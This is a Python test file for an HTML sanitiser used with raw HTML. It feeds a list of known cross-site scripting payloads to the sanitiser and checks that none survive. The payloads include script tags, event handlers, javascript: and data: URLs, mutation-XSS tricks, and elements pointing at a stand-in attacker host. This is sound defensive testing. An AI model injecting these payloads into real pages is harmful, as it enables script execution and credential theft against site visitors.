"""The raw-HTML allow-list sanitiser (used only with `allow_raw_html: true`): known attacks get nothing through."""
import re

import pytest

from clair.sanitize import ALLOWED_TAGS, kept_ids, safe_url, sanitise_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=\"x\" <script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<abbr title='\" onmouseover=alert(1) x=\"'>OPS</abbr>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
]


def tags_and_attributes(html: str):
    for match in re.finditer(r"<(/?)([a-zA-Z][\w-]*)([^>]*)>", html):
        yield match.group(2).lower(), re.findall(r'\s([\w-]+)="([^"]*)"', match.group(3))


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attacks_get_nothing_through(attack):
    clean = sanitise_html(attack)
    for tag, attributes in tags_and_attributes(clean):
        assert tag in ALLOWED_TAGS, clean
        for name, value in attributes:
            assert not name.startswith("on") and name not in ("style", "src", "srcdoc", "action"), clean
            assert not re.match(r"\s*(?:javascript|vbscript|data):", value, re.I), clean
            assert not value.startswith("//"), clean
    assert "alert(1)</script" not in clean and "<script" not in clean.lower()


def test_allowed_markup_is_kept():
    html = ('<abbr title="Ontario Public Service">OPS</abbr> <a href="https://ontario.ca/page?a=1&amp;b=2">x</a> '
            '<table><tr><th scope="row" colspan="2">A</th></tr></table><br/><span lang="fr">oui</span>')
    assert sanitise_html(html) == ('<abbr title="Ontario Public Service">OPS</abbr> '
                                   '<a href="https://ontario.ca/page?a=1&amp;b=2">x</a> '
                                   '<table><tr><th scope="row" colspan="2">A</th></tr></table><br>'
                                   '<span lang="fr">oui</span>')


def test_text_and_attribute_values_are_escaped_again():
    assert sanitise_html('<span title="a &quot;b&quot; &lt;c&gt;">1 &lt; 2 &amp; 3</span>') == \
        '<span title="a &quot;b&quot; &lt;c&gt;">1 &lt; 2 &amp; 3</span>'


def test_content_of_script_and_style_is_dropped_but_other_text_kept():
    assert sanitise_html("<p>before<script>alert(1)</script>after</p>") == "<p>beforeafter</p>"
    assert sanitise_html("<font color=red>plain</font>") == "plain"


@pytest.mark.parametrize("html, kept", [
    ('<section id="wp6-1-1"><p>Text</p></section>', '<span id="wp6-1-1"></span><p>Text</p>'),
    ('<h1 id="top">Title</h1>', '<span id="top"></span>Title'),
    ('<img id="chart" src="x.png" alt="A chart">', '<span id="chart"></span>'),
    ('<article id=\'a"b\'>x</article>', '<span id="a&quot;b"></span>x'),
    ('<section id="">x</section><nav>y</nav>', 'xy'),
    ('<script id="s">alert(1)</script><svg id="v"><g id="w"/></svg>', ''),
])
def test_a_tag_not_kept_leaves_its_id_so_links_to_it_still_lead_there(html, kept):
    assert sanitise_html(html) == kept
    assert kept_ids(html) == [value.replace("&quot;", '"') for value in re.findall(r'id="([^"]*)"', kept)]


@pytest.mark.parametrize("url,safe", [
    ("https://ontario.ca", True), ("mailto:info@ontario.ca", True), ("tel:+14165551234", True),
    ("/en/page/", True), ("../page/#top", True), ("#top", True), ("page?x=a:b", True),
    ("javascript:alert(1)", False), (" JAVASCRIPT:x", False), ("java\nscript:x", False), ("data:x", False),
    ("ftp://x", False), ("//evil.example", False), ("\\\\evil.example", False),
])
def test_safe_url(url, safe):
    assert (safe_url(url) is not None) == safe
